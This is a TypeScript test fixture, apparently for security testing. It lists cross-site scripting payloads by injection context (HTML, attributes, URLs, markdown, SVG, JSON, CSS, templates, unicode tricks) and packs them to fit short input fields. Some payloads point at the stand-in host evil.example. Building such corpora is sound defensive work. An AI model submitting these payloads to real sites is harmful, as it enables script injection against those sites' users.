/**
 * Texts that would run something where a page took them for more than text, by the place for which they are made. What would run sets
 * `ran`, opens a dialog, or asks for /hostile. Each is short enough for every field that people write.
 */
export const xssCorpus: Readonly<Record<string, readonly string[]>> = {
  html: [
    '<script>ran=1</script>',
    '</script><script>ran=1</script>',
    '<img src=/hostile onerror=ran=1>',
    '<svg/onload=ran=1>',
    '<details open ontoggle=ran=1>x',
    '<input autofocus onfocus=ran=1>',
    '<video><source onerror=ran=1></video>',
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    '<object data=/hostile></object><embed src=/hostile>',
    '<base href=//evil.example/><link rel=stylesheet href=/hostile>',
    '<meta http-equiv=refresh content="0;url=/hostile">',
    '<form action=/hostile><button autofocus onfocus=ran=1>x',
    '<!--><img src=/hostile onerror=ran=1>-->',
    '<noscript><p title="</noscript><img src=x onerror=ran=1>">',
    '<template><img src=/hostile onerror=ran=1></template>',
    '<math><mtext></form><style></math><img src onerror=ran=1>',
  ],
  attribute: [
    '" autofocus onfocus=ran=1 x="',
    "' autofocus onfocus=ran=1 x='",
    '"><img src=/hostile onerror=ran=1>',
    "'><svg onload=ran=1>",
    '` onmouseover=ran=1 x=`',
    '" style="animation-name:x" onanimationstart="ran=1',
    'x onerror=ran=1 autofocus',
    '&quot;><script>ran=1</script>',
  ],
  url: [
    'javascript:ran=1',
    ' JaVaScRiPt:ran=1',
    'java&Tab;script:alert(1)',
    'javascript://x%0Aran=1',
    'data:text/html,<script>ran=1</script>',
    'vbscript:msgbox(1)',
    '//evil.example/hostile',
    '/\\evil.example/hostile',
    'https://x" onerror="ran=1',
  ],
  markdown: [
    '[x](javascript:ran=1)',
    '[x](<javascript:ran=1>)',
    '![x](javascript:ran=1)',
    '![x"onerror="ran=1](/hostile)',
    '<javascript:ran=1>',
    '[x]: javascript:ran=1 "y"',
    '`<img src=/hostile onerror=ran=1>`',
    '**<svg onload=ran=1>**',
    '```html"><img src=x onerror=ran=1>',
  ],
  svg: [
    '<svg><script>ran=1</script></svg>',
    '<svg><a xlink:href=javascript:ran=1><text>x</text></a>',
    '<svg><animate onbegin=ran=1 attributeName=x dur=1s>',
    '<svg><set attributeName=href to=javascript:ran=1>',
    '<svg><use href="data:image/svg+xml,<svg onload=ran=1>"/>',
    '<svg><style><img src=x onerror=ran=1></style></svg>',
  ],
  json: [
    '"};ran=1;//',
    '"]});alert(1);//',
    "');ran=1;//",
    '</script><!--<script>ran=1',
    '\\"};ran=1;//',
    '\\u003cscript\\u003eran=1\\u003c/script\\u003e',
    '\u2028ran=1\u2029',
    '__proto__',
    'constructor',
  ],
  css: [
    '</style><script>ran=1</script>',
    'x;background:url(/hostile)',
    "');background:url(/hostile);('",
    '@import "/hostile";',
    'expression(ran=1)',
    '}*{background:url(//evil.example/hostile)}',
  ],
  template: [
    '{{constructor.constructor("ran=1")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is tried
    '${ran=1}',
    '<%= ran=1 %>',
    '#{ran=1}',
    '{{company}}<script>ran=1</script>',
    '{ran=1}',
    '%s%n<script>ran=1</script>',
  ],
  unicode: [
    '＜script＞ran=1＜/script＞',
    '\ufeff<script>ran=1</script>',
    '\u202e<script>ran=1</script>\u202c',
    '<\u200bimg src=/hostile onerror=ran=1>',
    '+ADw-script+AD4-ran=1+ADw-/script+AD4-',
    'ʺ><svg onload=ran=1>',
    '<ſcript>ran=1</ſcript>',
    '<img src=/hostile onerror\u00a0=ran=1>',
    'K<svg onload=ran=1>\u0130',
  ],
};

/** These have to begin a text, or to be all of it, to be taken for what they pretend to be. */
const alone = [...(xssCorpus.url ?? []), '__proto__', 'constructor', '[x]: javascript:ran=1 "y"'];

/** What all fields but tags and the names of access tokens take, in characters. */
const LONGEST = 90;

/** All of them in as few groups as there can be: those that may stand behind others share one. */
function groups(): string[][] {
  const made: string[][] = alone.map((one) => [one]);
  let group: string[] = [];
  for (const one of Object.values(xssCorpus).flat()) {
    if (alone.includes(one)) continue;
    if (group.length > 0 && [...group, one].join(' ').length > LONGEST) {
      made.push(group);
      group = [];
    }
    group.push(one);
  }
  return group.length > 0 ? [...made, group] : made;
}

const groupOfText = new Map(groups().map((group) => [group.join(' '), group]));

/** One text for each group. */
export function xssTexts(): string[] {
  return [...groupOfText.keys()];
}

/** The texts that a text of `xssTexts` consists of, for fields that hold less; any other text is its only part. */
export function partsOf(text: string): string[] {
  return groupOfText.get(text) ?? [text];
}
